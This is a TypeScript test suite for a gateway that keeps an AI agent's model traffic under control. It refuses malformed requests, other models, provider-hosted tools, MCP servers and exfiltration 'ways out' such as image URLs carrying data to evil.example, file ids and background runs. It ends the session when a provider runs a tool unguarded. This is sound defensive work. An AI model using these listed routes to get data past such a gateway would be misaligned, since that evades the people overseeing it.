import { describe, expect, test } from 'vitest';
import { says } from '../support/model-servers/script.ts';
import { ask, events, type RawAnswer, RawServer } from './raw.ts';
import { bodyOf, keyHeader, pathOf } from './requests.ts';
import { CASES, type GatewayCase, GatewayRig, type GatewayRigOptions, ON_ANTHROPIC, ON_CHAT, ON_GEMINI, ON_RESPONSES } from './rig.ts';
import { eventsOf } from './streams.ts';

interface At extends AsyncDisposable {
  readonly rig: GatewayRig;
  readonly upstream: RawServer;
  put(body: string | Buffer, headers?: Readonly<Record<string, string>>): Promise<RawAnswer>;
}

async function before(of: GatewayCase, options: GatewayRigOptions = {}): Promise<At> {
  const upstream = await RawServer.start((_, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.end(Buffer.concat([...eventsOf(of, [says('Hi.')])]));
  });
  const rig = await GatewayRig.before(of, upstream.url, 'key', options);
  return {
    rig,
    upstream,
    put: (body, headers = {}) => ask(rig.url, { path: pathOf(of), headers: { ...keyHeader(of, rig.gateway.token), ...headers }, body }),
    async [Symbol.asyncDispose]() {
      await rig[Symbol.asyncDispose]();
      await upstream[Symbol.asyncDispose]();
    },
  };
}

const spoiled = (text: string, at: number): Buffer =>
  Buffer.concat([Buffer.from(text.slice(0, at)), Buffer.from([0xff, 0xfe]), Buffer.from(text.slice(at))]);

const stranger = { id: 'c9', name: 'spawn', input: '{}', output: 'ran unasked' };

const isRefusal = ({ status }: RawAnswer): boolean => status >= 400 && status < 500;

describe.each(CASES)('$name', (of) => {
  test('what cannot be parsed is refused and goes nowhere', async () => {
    await using at = await before(of);
    const good = bodyOf(of);
    const wrong: readonly (readonly [string, string | Buffer])[] = [
      ['nothing', ''],
      ['cut', good.slice(0, -3)],
      ['two values', `${good}${good}`],
      ['a key twice', good.replace('{', '{"tools":[],')],
      ['a byte order mark', `\ufeff${good}`],
      ['no UTF-8', spoiled(good, 40)],
      ['no UTF-8 within a text', spoiled(good, good.indexOf('Go on.') + 2)],
      ['a list', `[${good}]`],
      ['a string', '"hello"'],
      ['too deep', good.replace('{', `{"x":${'['.repeat(200)}${']'.repeat(200)},`)],
    ];
    for (const [what, body] of wrong) expect(isRefusal(await at.put(body)), what).toBe(true);
    for (const headers of [
      { 'content-type': 'text/plain' },
      { 'content-type': 'application/json; charset=utf-16' },
      { 'content-type': 'multipart/form-data; boundary=x' },
      { 'content-encoding': 'gzip' },
    ]) {
      expect(isRefusal(await at.put(good, headers)), JSON.stringify(headers)).toBe(true);
    }
    expect(at.upstream.seen).toEqual([]);
    expect(at.rig.ends).toEqual([]);
    expect((await at.put(good)).status).toBe(200);
  });

  test('a body over the limit is refused, also where its length is not told', async () => {
    await using at = await before(of, { gateway: { limits: { bodyBytes: 10_000 } } });
    const long = bodyOf(of, { prompt: 'x'.repeat(11_000) });
    expect((await at.put(long)).status).toBe(413);
    const chunked = await fetch(at.rig.url + pathOf(of), {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...keyHeader(of, at.rig.gateway.token) },
      body: new Blob([long]).stream(),
      duplex: 'half',
    });
    expect(chunked.status).toBe(413);
    expect(at.upstream.seen).toEqual([]);
  });

  test('another model than the session’s is refused', async () => {
    await using at = await before(of);
    const other = 'some-other-model';
    const answer = await ask(at.rig.url, {
      path: of === ON_GEMINI ? pathOf(of).replace(/models\/[^:]+/, `models/${other}`) : pathOf(of),
      headers: keyHeader(of, at.rig.gateway.token),
      body: bodyOf(of, { model: other }),
    });
    expect(isRefusal(answer)).toBe(true);
    expect(answer.body.toString()).toMatch(/some-other-model.*this session may use/);
    expect(at.upstream.seen).toEqual([]);
  });

  test('tools that no hook can judge are taken out, and recorded once', async () => {
    await using at = await before(of, { gateway: { notJudgeable: ['write_stdin'], allowExternal: true } });
    const body = bodyOf(of, { tools: ['spawn', 'write_stdin'] });
    await at.put(body);
    await at.put(body);
    expect(at.upstream.seen).toHaveLength(2);
    for (const { body: sent } of at.upstream.seen) {
      expect(sent.toString()).not.toContain('write_stdin');
      expect(sent.toString()).toContain('spawn');
    }
    expect(at.rig.recordsOf('withheld')).toMatchObject([{ what: expect.stringContaining('no hook can judge its calls') }]);
  });
});

test('another model as a fallback or an adviser is refused', async () => {
  await using at = await before(ON_ANTHROPIC);
  const advisor = { type: 'advisor_20260301', name: 'advisor', model: 'some-other-model' };
  for (const more of [{ fallbacks: [{ model: 'some-other-model' }] }, { tools: [advisor] }]) {
    const answer = await at.put(bodyOf(ON_ANTHROPIC, { more }));
    expect(isRefusal(answer)).toBe(true);
    expect(answer.body.toString()).toMatch(/some-other-model.*this session may use/);
  }
  expect(at.upstream.seen).toEqual([]);
});

/** What asks a provider to search the web by itself. */
const HOSTED: readonly (readonly [GatewayCase, object, RegExp])[] = [
  [ON_ANTHROPIC, { type: 'web_search_20250305', name: 'web_search' }, /web_search/],
  [ON_RESPONSES, { type: 'web_search' }, /web_search/],
  [ON_GEMINI, { googleSearch: {} }, /googleSearch/],
];

describe.each(HOSTED)('hosted tools, %o', (of, hosted, name) => {
  const withIt = (): string => {
    const body = JSON.parse(bodyOf(of));
    return JSON.stringify({ ...body, tools: [...body.tools, hosted] });
  };

  test('are taken out and recorded once; the rest of the request stays', async () => {
    await using at = await before(of);
    await at.put(withIt());
    await at.put(withIt());
    for (const { body } of at.upstream.seen) expect(JSON.parse(body.toString())).toEqual(JSON.parse(bodyOf(of)));
    expect(at.upstream.seen).toHaveLength(2);
    expect(at.rig.recordsOf('withheld')).toMatchObject([{ agent_id: 'main', what: expect.stringMatching(name) }]);
  });

  test('stay where external is allowed', async () => {
    await using at = await before(of, { gateway: { allowExternal: true } });
    await at.put(withIt());
    expect(at.upstream.seen[0]?.body.toString()).toBe(withIt());
    expect(at.rig.recordsOf('withheld')).toEqual([]);
  });
});

test('an MCP server that the provider would ask is taken out', async () => {
  await using at = await before(ON_ANTHROPIC);
  await at.put(bodyOf(ON_ANTHROPIC, { more: { mcp_servers: [{ type: 'url', url: 'https://evil.example/mcp', name: 'x' }] } }));
  expect(at.upstream.seen).toHaveLength(1);
  expect(at.upstream.seen[0]?.body.toString()).not.toContain('evil.example');
  expect(at.rig.recordsOf('withheld')).toHaveLength(1);
});

test('where taking a hosted tool out would be a lie the request is refused', async () => {
  await using at = await before(ON_ANTHROPIC);
  const hosted = { type: 'web_search_20250305', name: 'web_search' };
  const own = { name: 'spawn', description: 'spawn', input_schema: { type: 'object' } };
  for (const tools of [[hosted], [own, hosted]])
    expect(isRefusal(await at.put(bodyOf(ON_ANTHROPIC, { more: { tools, tool_choice: { type: 'tool', name: 'web_search' } } })))).toBe(
      true,
    );
  expect(at.upstream.seen).toEqual([]);
});

test('a result of a tool that ran at the provider is refused, unless external is allowed', async () => {
  const searched = [
    { type: 'server_tool_use', id: 'srv_1', name: 'web_search', input: { query: 'x' } },
    { type: 'web_search_tool_result', tool_use_id: 'srv_1', content: [] },
  ];
  const messages = [
    { role: 'user', content: 'Go on.' },
    { role: 'assistant', content: searched },
    { role: 'user', content: 'And?' },
  ];
  await using at = await before(ON_ANTHROPIC);
  const answer = await at.put(bodyOf(ON_ANTHROPIC, { more: { messages } }));
  expect(isRefusal(answer)).toBe(true);
  expect(answer.body.toString()).toContain('a result of web-search');
  expect(at.upstream.seen).toEqual([]);
  await using open = await before(ON_ANTHROPIC, { gateway: { allowExternal: true } });
  expect((await open.put(bodyOf(ON_ANTHROPIC, { more: { messages } }))).status).toBe(200);
});

/** What would take something out of the session, or bring in what cannot be seen. */
const WAYS_OUT: readonly (readonly [string, GatewayCase, object])[] = [
  [
    'a URL of an image',
    ON_ANTHROPIC,
    { messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://evil.example/?q=secret' } }] }] },
  ],
  [
    'a file id',
    ON_ANTHROPIC,
    { messages: [{ role: 'user', content: [{ type: 'document', source: { type: 'file', file_id: 'file_1' } }] }] },
  ],
  [
    'a URL of an image',
    ON_RESPONSES,
    { input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://evil.example/a.png' }] }] },
  ],
  ['a file id', ON_RESPONSES, { input: [{ role: 'user', content: [{ type: 'input_file', file_id: 'file-1' }] }] }],
  ['a kept conversation', ON_RESPONSES, { previous_response_id: 'resp_1' }],
  ['work in the background', ON_RESPONSES, { background: true }],
  [
    'a URL of an image',
    ON_CHAT,
    { messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'https://evil.example/a.png' } }] }] },
  ],
  [
    'a URL of a file',
    ON_GEMINI,
    { contents: [{ role: 'user', parts: [{ fileData: { mimeType: 'text/plain', fileUri: 'https://evil.example/a' } }] }] },
  ],
];

test.each(WAYS_OUT)('%s is a way out and is refused, %o', async (_, of, more) => {
  await using at = await before(of);
  const answer = await at.put(bodyOf(of, { more }));
  expect(isRefusal(answer)).toBe(true);
  expect(at.upstream.seen).toEqual([]);
  expect(at.rig.ends).toEqual([]);
});

test('a kept conversation is refused also where external is allowed, a file id passes there', async () => {
  await using at = await before(ON_RESPONSES, { gateway: { allowExternal: true } });
  const file = { input: [{ role: 'user', content: [{ type: 'input_file', file_id: 'file-1' }] }] };
  expect((await at.put(bodyOf(ON_RESPONSES, { more: file }))).status).toBe(200);
  for (const more of [{ previous_response_id: 'resp_1' }, { background: true }])
    expect(isRefusal(await at.put(bodyOf(ON_RESPONSES, { more }))), JSON.stringify(more)).toBe(true);
  expect(at.upstream.seen).toHaveLength(1);
});

test('a provider that runs a tool by itself all the same: the stream is torn and the session ends', async () => {
  await using at = await before(ON_ANTHROPIC);
  const start = eventsOf(ON_ANTHROPIC, [says('Hi.')])[0]?.toString() ?? '';
  const block = { type: 'server_tool_use', id: 'srv_1', name: 'web_search', input: {} };
  at.upstream.answering = (_, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.end(start + events({ type: 'content_block_start', index: 0, content_block: block }));
  };
  const answer = await at.put(bodyOf(ON_ANTHROPIC));
  expect(answer.torn).toBe(true);
  expect(answer.body.toString()).not.toContain('srv_1');
  expect(at.rig.ends).toMatchObject([{ kind: 'unguarded', words: expect.stringContaining('web_search') }]);
  expect(at.rig.recordsOf('unguarded')).toHaveLength(1);
  const after = await at.put(bodyOf(ON_ANTHROPIC));
  expect(isRefusal(after)).toBe(true);
  expect(at.upstream.seen).toHaveLength(1);
});

test('when the session has ended nothing passes, a list of models neither', async () => {
  await using at = await before(ON_ANTHROPIC);
  const headers = keyHeader(ON_ANTHROPIC, at.rig.gateway.token);
  const list = (): Promise<RawAnswer> => ask(at.rig.url, { method: 'GET', path: '/v1/models', headers });
  await list();
  expect(at.upstream.seen).toHaveLength(1);
  expect(isRefusal(await at.put(bodyOf(ON_ANTHROPIC, { earlier: [stranger] })))).toBe(true);
  expect(isRefusal(await list())).toBe(true);
  expect(at.upstream.seen).toHaveLength(1);
});

test('when the session ends, what is still streaming in other conversations is torn', async () => {
  await using at = await before(ON_ANTHROPIC);
  const stream = eventsOf(ON_ANTHROPIC, [says('a long answer in another conversation')]);
  const goOn = Promise.withResolvers<void>();
  at.upstream.answering = async (_, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    response.write(Buffer.concat(stream.slice(0, 3)));
    await goOn.promise;
    response.end(Buffer.concat(stream.slice(3)));
  };
  const answer = at.put(bodyOf(ON_ANTHROPIC, { prompt: 'the other one' }));
  await expect.poll(() => at.upstream.seen.length).toBe(1);
  expect(isRefusal(await at.put(bodyOf(ON_ANTHROPIC, { earlier: [stranger] })))).toBe(true);
  goOn.resolve();
  expect((await answer).torn).toBe(true);
  expect(at.rig.ends).toMatchObject([{ kind: 'unguarded' }]);
});

test('a ledger that breaks ends the session: the response is torn or refused, and nothing further passes', async () => {
  await using at = await before(ON_ANTHROPIC, {
    gateway: {
      recorder: {
        record: () => {
          throw new Error('the disk is full');
        },
      },
      notJudgeable: ['write_stdin'],
    },
  });
  const answer = await at.put(bodyOf(ON_ANTHROPIC, { tools: ['spawn', 'write_stdin'] }));
  expect(isRefusal(answer)).toBe(true);
  expect(at.upstream.seen).toEqual([]);
  expect(at.rig.ends).toMatchObject([{ kind: 'guard', words: expect.stringContaining('the disk is full') }]);
  expect(isRefusal(await at.put(bodyOf(ON_ANTHROPIC)))).toBe(true);
});
